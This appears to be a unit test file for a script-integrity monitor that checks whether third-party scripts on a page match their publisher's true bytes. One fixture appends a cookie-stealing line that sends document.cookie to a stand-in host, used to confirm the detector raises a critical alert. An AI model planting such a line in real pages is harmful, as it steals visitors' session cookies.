// Unit: targets[].expect in the config, and the provenance judgement of a plan against the true bytes.

import assert from 'node:assert/strict';
import { describe, it } from 'vitest';
import { parseConfig } from '../../src/config/config.js';
import { ScriptwardenError } from '../../src/errors.js';
import { provenanceFindings } from '../../src/detect/provenance.js';
import { planScan } from '../../src/plan/plan-scan.js';
import { emptyBaseline } from '../../src/plan/baseline.js';
import { pageCapture, script } from '../fixtures/captures.js';
import { sha256Hex } from '../../src/plan/fingerprint.js';

const HEX = 'a'.repeat(64);
function errorOf(raw: unknown): string {
  try {
    parseConfig(raw, '/etc/sw/scriptwarden.yml');
  } catch (error) {
    assert.ok(error instanceof ScriptwardenError && error.code === 'CONFIG_INVALID');
    return error.message;
  }
  assert.fail('expected a configuration error');
}

describe('targets[].expect', () => {
  it('takes one source or a list, anchors files to the config, and lower-cases hashes', () => {
    const config = parseConfig({ targets: [
      { name: 'sdk', type: 'resource', url: 'https://cdn.example/sdk.js', expect: { file: './dist/sdk.js' } },
      { name: 'shop', url: 'https://shop.example/', expect: [{ script: 'https://cdn.example/sdk.js', sha256: HEX.toUpperCase() }, { script: 'https://cdn.example/j.js', npm: '@scope/pkg@1.2.3/dist/x.min.js' }] },
    ] }, '/etc/sw/scriptwarden.yml');
    assert.deepEqual(config.targets[0]!.expect, [{ file: '/etc/sw/dist/sdk.js' }]);
    assert.deepEqual(config.targets[1]!.expect!.map((e) => e.sha256 ?? e.npm), [HEX, '@scope/pkg@1.2.3/dist/x.min.js']);
  });

  it('names the path of every mistake', () => {
    const message = errorOf({ targets: [
      { name: 'a', type: 'resource', url: 'https://cdn.example/a.js', expect: { sha256: 'abc' } },
      { name: 'b', type: 'resource', url: 'https://cdn.example/b.js', expect: { sha256: HEX, url: 'https://releases.example/b.js' } },
      { name: 'c', url: 'https://shop.example/', expect: [{ npm: 'jquery' }] },
      { name: 'd', url: 'https://shop.example/', expect: [{ sha256: HEX }] },
      { name: 'e', type: 'resource', url: 'https://cdn.example/e.js', expect: { script: 'https://cdn.example/other.js', sha256: HEX } },
    ] });
    assert.match(message, /targets\[0\]\.expect\.sha256: must be a SHA-256 in hex/);
    assert.match(message, /targets\[1\]\.expect: give exactly one of sha256, npm, url, file \(not sha256 and url\)/);
    assert.match(message, /targets\[2\]\.expect\[0\]\.npm: must be PACKAGE@VERSION\/path/);
    assert.match(message, /targets\[3\]\.expect\[0\]\.script: is required on a page target/);
    assert.match(message, /targets\[4\]\.expect\[0\]\.script: a resource target expects its own bytes/);
  });
});

describe('provenanceFindings', () => {
  const TRUE = 'window.sdk = 1;';
  const plan = (body: string) => planScan(pageCapture([script({ kind: 'external', url: 'https://cdn.example/sdk.js', body })]), emptyBaseline(), { removalThreshold: 2 });
  const expectation = { script: 'https://cdn.example/sdk.js', source: 'url https://releases.example/sdk.js', sha256: sha256Hex(TRUE), error: null };

  it('raises a critical mismatch for bytes that are not the publisher\'s, on a first scan too, and nothing for the true ones', () => {
    const tampered = `${TRUE}\nnew Image().src = "//x.example/?" + document.cookie;`;
    const { alerts, warnings } = provenanceFindings(plan(tampered), [expectation]);
    assert.deepEqual(alerts.map((a) => [a.type, a.severity, a.oldValue, a.newValue]), [['provenance.mismatch', 'critical', sha256Hex(TRUE), sha256Hex(tampered)]]);
    assert.deepEqual(warnings, []);
    assert.deepEqual(provenanceFindings(plan(TRUE), [expectation]), { alerts: [], warnings: [] });
  });

  it('warns, never passes silently, when the true bytes could not be had or the script was not loaded', () => {
    assert.match(provenanceFindings(plan(TRUE), [{ ...expectation, sha256: null, error: 'HTTP 404' }]).warnings[0]!, /not checked: the expected bytes \(url .*\) could not be had: HTTP 404/);
    assert.match(provenanceFindings(plan(TRUE), [{ ...expectation, script: 'https://cdn.example/other.js' }]).warnings[0]!, /other\.js not checked: the page did not load it/);
  });
});
